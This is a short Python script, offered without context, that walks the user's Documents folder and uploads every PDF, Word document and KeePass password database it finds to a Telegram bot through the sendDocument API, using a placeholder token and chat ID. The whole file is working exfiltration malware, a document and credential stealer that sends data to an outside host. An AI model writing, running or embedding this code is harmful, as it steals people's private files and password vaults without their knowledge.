import os
import requests

TOKEN = "0000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
CHAT = "-100000000"


def send(path):
    with open(path, "rb") as handle:
        requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", data={"chat_id": CHAT}, files={"document": handle})


for root, _, names in os.walk(os.path.join(os.path.expanduser("~"), "Documents")):
    for name in names:
        if name.endswith((".pdf", ".docx", ".kdbx")):
            send(os.path.join(root, name))
